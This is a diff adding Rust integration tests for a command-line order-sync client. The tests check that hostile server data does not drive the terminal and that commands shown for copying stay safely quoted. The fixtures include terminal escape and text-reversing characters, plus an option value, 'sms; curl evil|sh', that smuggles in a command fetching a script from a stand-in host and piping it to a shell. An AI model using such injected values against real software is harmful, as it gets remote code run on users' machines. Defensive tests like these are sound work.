@@ -1,0 +1,254 @@
+//! What came from outside, and what is to be copied, on a real terminal and in pipes.
+
+use serde_json::json;
+use wiremock::{Mock, MockServer, Request, ResponseTemplate};
+
+use super::pty::{ends, ends_restored, expect, send, start_in_shell};
+use super::support::{Home, Run};
+
+/// A cleared screen, a title, a bell, a control of eight bits, and letters turned round.
+const EVIL: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\u{9b}31m\u{202e}gnp\u{2066}";
+const OPTION: &str = "sms; curl evil|sh";
+
+/// What must not reach a terminal.
+fn driving(shown: &str) -> Vec<&'static str> {
+    let all = ["\u{1b}[2J", "\u{1b}]0;", "\u{7}", "\u{9b}", "\u{202e}", "\u{2066}"];
+    all.into_iter().filter(|text| shown.contains(text)).collect()
+}
+
+async fn hostile() -> MockServer {
+    let server = MockServer::start().await;
+    let item = json!({"id": format!("i1{EVIL}"), "retailerId": 1, "retailerName": EVIL, "orderId": EVIL, "itemName": EVIL,
+        "quantity": 1, "price": 1.50, "currency": "USD", "orderDate": "2026-01-01T00:00:00Z", "shipmentStatus": EVIL});
+    let answer = move |request: &Request| match request.url.path() {
+        "/sync/orders" if request.url.query().is_some_and(|query| query.contains("format=csv")) => {
+            ResponseTemplate::new(406)
+        }
+        "/sync/orders" => ResponseTemplate::new(200).insert_header("x-total-count", "1").set_body_json(json!([item])),
+        _ => {
+            let body = json!({"code": EVIL, "message": EVIL, "details": {"field": EVIL}});
+            ResponseTemplate::new(400).set_body_json(body)
+        }
+    };
+    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
+    server
+}
+
+/// Runs in a terminal of its own.
+fn on_a_terminal(home: &Home, address: &str, arguments: &[&str]) -> (i32, String) {
+    let environment = [("ORDERSYNC_BASE_URL", address), ("ORDERSYNC_TOKEN", "t"), ("ORDERSYNC_PAGER", "cat")];
+    let mut session = start_in_shell(home, arguments, &environment);
+    let shown = expect(&mut session, "ended ");
+    let code = expect(&mut session, "\r\n");
+    ends(session, 0);
+    let shown = shown.split_once(".\r\n").map_or(shown.as_str(), |(_, rest)| rest).replace("\r\n", "\n");
+    (code.trim().parse().expect("a code"), shown)
+}
+
+#[tokio::test]
+async fn no_result_drives_the_terminal_and_a_pipe_gets_the_exact_text() {
+    let server = hostile().await;
+    let address = server.uri();
+    tokio::task::spawn_blocking(move || {
+        let home = Home::new();
+        for arguments in [
+            &["orders", "list"][..],
+            &["orders", "list", "-o", "csv"],
+            &["orders", "list", "-o", "json"],
+            &["orders", "list", "-o", "json", "--color", "never"],
+            &["orders", "list", "-o", "jsonl"],
+            &["orders", "list", "--jq", ".[].itemName"],
+            &["orders", "list", "--jq", "."],
+            &["orders", "list", "--fields", "itemName"],
+            &["orders", "export"],
+            &["orders", "export", "--format", "jsonl"],
+            &["orders", "export", "--out", "/dev/tty"],
+            &["orders", "summary", "--html", "-"],
+            &["api", "/sync/orders"],
+            &["api", "/sync/orders", "--paginate"],
+            &["api", "/sync/orders", "--include"],
+            &["connections"],
+            &["connections", "-o", "json"],
+        ] {
+            let (_, shown) = on_a_terminal(&home, &address, arguments);
+            assert_eq!(driving(&shown), Vec::<&str>::new(), "{arguments:?}: {shown:?}");
+            assert!(shown.contains("gnp"), "{arguments:?}: {shown:?}");
+        }
+        let mut command = home.command(&["orders", "list", "--jq", ".[].itemName"]);
+        command.env("ORDERSYNC_BASE_URL", &address).env("ORDERSYNC_TOKEN", "t");
+        assert_eq!(Run::of(command).ends(0).out, format!("{EVIL}\n"));
+    })
+    .await
+    .expect("it ends");
+}
+
+#[tokio::test]
+async fn json_on_a_terminal_is_indented_and_coloured_and_plain_in_a_pipe() {
+    let server = MockServer::start().await;
+    let body = "[{\"connectionId\":\"c1\",\"retailerId\":1,\"status\":\"valid\",\"n\":1430.710}]";
+    let answer = ResponseTemplate::new(200).set_body_raw(body, "application/json");
+    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
+    let address = server.uri();
+    tokio::task::spawn_blocking(move || {
+        let home = Home::new();
+        let laid_out = "[\n  {\n    \"connectionId\": \"c1\",\n    \"retailerId\": 1,\n    \"status\": \"valid\",\n    \"n\": 1430.710\n  }\n]\n";
+        for arguments in [&["api", "/sync/x"][..], &["api", "/sync/x", "--paginate"], &["api", "/sync/x", "--jq", "."]]
+        {
+            let (_, shown) = on_a_terminal(&home, &address, arguments);
+            assert!(shown.contains("\u{1b}["), "{arguments:?}: {shown:?}");
+            assert_eq!(console::strip_ansi_codes(&shown), laid_out, "{arguments:?}");
+            let plain = on_a_terminal(&home, &address, &[arguments, &["--color", "never"]].concat()).1;
+            assert_eq!(plain, laid_out, "{arguments:?}");
+        }
+        let piped = |arguments: &[&str]| {
+            let mut command = home.command(arguments);
+            command.env("ORDERSYNC_BASE_URL", &address).env("ORDERSYNC_TOKEN", "t");
+            Run::of(command).ends(0).out
+        };
+        assert_eq!(piped(&["api", "/sync/x"]), format!("{body}\n"));
+        assert_eq!(piped(&["api", "/sync/x", "--jq", "."]), format!("{body}\n"));
+        let listed = piped(&["connections", "-o", "json"]);
+        let coloured = piped(&["connections", "-o", "json", "--color", "always"]);
+        assert!(coloured.contains("\u{1b}[") && !listed.contains('\u{1b}'), "{coloured:?}");
+        assert_eq!(console::strip_ansi_codes(&coloured), listed);
+    })
+    .await
+    .expect("it ends");
+}
+
+#[tokio::test]
+async fn a_curl_command_is_one_line_on_a_narrow_terminal() {
+    let server = hostile().await;
+    let address = server.uri();
+    let shown = tokio::task::spawn_blocking(move || {
+        on_a_terminal(&Home::new(), &address, &["orders", "list", "--curl", "--since", "2026-01-01", "--jq", "length"])
+            .1
+    });
+    let shown = shown.await.expect("it ends");
+    let line = shown.lines().find(|line| line.starts_with("curl ")).unwrap_or_else(|| panic!("{shown}"));
+    assert!(line.len() > 80 && line.contains("-H \"Authorization: Bearer $ORDERSYNC_TOKEN\""), "{shown}");
+    let words = shlex::split(line).expect("words");
+    assert!(words.contains(&"Authorization: Bearer $ORDERSYNC_TOKEN".to_owned()), "{words:?}");
+    assert_eq!(shown.lines().filter(|line| line.contains("-H ")).count(), 1, "{shown}");
+}
+
+/// A session that waits for a choice among options of which one would harm if it were run.
+async fn asking() -> MockServer {
+    let server = MockServer::start().await;
+    let session = json!({
+        "batchId": "b 1", "status": "syncing",
+        "retailerSyncSessions": [{"retailerId": 1, "displayName": "Shop", "connectionId": "c1", "syncStatus": "userintervention"}],
+        "events": [{"seq": 1, "type": "mfa", "connectionId": "c1", "retailerId": 1, "reqId": "r1", "at": "2026-01-01T00:00:00Z",
+            "mfa": {"eventType": "choose", "prompt": "Which?", "options": [{"id": OPTION, "label": "x"}, {"id": "email", "label": "y"}]}}],
+    });
+    let answer = move |request: &Request| match request.url.path() {
+        path if path.starts_with("/sync/sessions/") => ResponseTemplate::new(200).set_body_json(&session),
+        _ => ResponseTemplate::new(200).set_body_json(json!([])),
+    };
+    Mock::given(wiremock::matchers::any()).respond_with(answer).mount(&server).await;
+    server
+}
+
+#[tokio::test]
+async fn a_command_to_copy_keeps_every_word_one_word() {
+    let server = asking().await;
+    let address = server.uri();
+    tokio::task::spawn_blocking(move || {
+        let home = Home::new();
+        let folder = home.path().join("config");
+        std::fs::create_dir_all(&folder).expect("folder");
+        let config = format!("[profiles.\"my shop\"]\nbase_url = \"{address}\"\n");
+        std::fs::write(folder.join("config.toml"), config).expect("config");
+        let words = ["ordersync", "mfa", "--batch", "b 1", "--option", OPTION, "--profile", "my shop"];
+        let mut command = home.command(&["mfa", "-o", "json", "--profile", "my shop"]);
+        command.env("ORDERSYNC_TOKEN", "t");
+        let error = Run::of(command).ends(7).error();
+        let line = error["details"]["command"].as_str().expect("a command");
+        assert_eq!(shlex::split(line).expect("words"), words, "{line}");
+        assert!(error["hint"].as_str().is_some_and(|hint| hint.contains(line)), "{error}");
+
+        // On a terminal, too, and on one line, however narrow it is.
+        let environment = [("ORDERSYNC_TOKEN", "t"), ("COLS", "50")];
+        let mut session = start_in_shell(&home, &["mfa", "--no-input", "--profile", "my shop"], &environment);
+        let shown = expect(&mut session, "ended 7");
+        ends(session, 0);
+        assert!(shown.contains(line), "{line}: {shown}");
+    })
+    .await
+    .expect("it ends");
+}
+
+#[test]
+fn a_filter_that_never_ends_is_ended_by_whoever_wants() {
+    let home = Home::new();
+    for signal in ["\x03", ""] {
+        let mut session = start_in_shell(&home, &["retailers", "--jq", "def f: f; \"begun\", f"], &[]);
+        let shell = expect(&mut session, "begun");
+        if signal.is_empty() {
+            let shell =
+                shell.split_once("shell ").and_then(|(_, rest)| rest.split_once('.')).expect("a shell").0.to_owned();
+            let kill = std::process::Command::new("pkill").args(["-TERM", "-P", &shell]).status();
+            assert!(kill.expect("pkill").success());
+        } else {
+            send(&mut session, signal);
+        }
+        ends_restored(session, 130);
+    }
+    let started = std::time::Instant::now();
+    home.run(&["retailers", "--jq", "def f: f; f", "--timeout", "1s"]).ends(1).says("--timeout");
+    home.run(&["config", "list", "--jq", "def f: f; f", "--timeout", "1s"]).ends(1).says("--timeout");
+    assert!(started.elapsed().as_secs() < 15);
+}
+
+#[test]
+fn a_filter_that_fails_says_why_without_the_data() {
+    let home = Home::new();
+    for (filter, said) in [
+        (".foo", "--jq: cannot index array with \"foo\"."),
+        (".[0] + 1", "--jq: cannot calculate object + number."),
+        (".[0].displayName | keys", "string"),
+        (".[0].displayName | fromjson", "--jq: cannot parse a value (not shown)."),
+        (".[] | error(.displayName)", "its text is not shown"),
+        (".[] | error(.)", "threw a value that is no text"),
+        ("error(\"none is left\")", "--jq: none is left."),
+    ] {
+        let run = home.run(&["retailers", "--jq", filter]).ends(1).says(said);
+        assert!(!run.err.contains("Marrowby") && run.err.len() < 400, "{filter}: {}", run.err);
+    }
+    // What came before the error is there, as with jq.
+    home.run(&["retailers", "--jq", ".[0].retailerId, .foo"]).ends(1).prints("1\n");
+    assert_eq!(home.run(&["retailers", "--jq", ".[0].retailerId, halt, 2"]).ends(0).out, "1\n");
+}
+
+#[test]
+fn standard_output_that_cannot_be_written_is_an_error() {
+    let home = Home::new();
+    let shell = |script: &str| {
+        let mut command = home.command(&[]);
+        let program = command.get_program().to_owned();
+        let mut shell = std::process::Command::new("sh");
+        shell.args(["-c", script]).env("BIN", program).current_dir(home.path());
+        for (name, value) in command.get_envs() {
+            shell.env(name, value.unwrap_or_default());
+        }
+        command = shell;
+        Run::of(command)
+    };
+    for arguments in [
+        "retailers",
+        "retailers -o json",
+        "--help",
+        "help orders",
+        "--version",
+        "completions bash",
+        "api /sync/retailers",
+    ] {
+        let run = shell(&format!("\"$BIN\" {arguments} >/dev/full")).ends(1);
+        assert!(run.err.contains("standard output"), "{arguments}: {}", run.err);
+        shell(&format!("\"$BIN\" {arguments} | head -n 1")).ends(0);
+        let run = shell(&format!("{{ \"$BIN\" {arguments}; echo $? >&2; }} | true")).ends(0);
+        assert_eq!(run.err.trim(), "0", "{arguments}");
+    }
+    // Nothing to print is nothing lost.
+    shell("\"$BIN\" retailers >/dev/null").ends(0);
+}
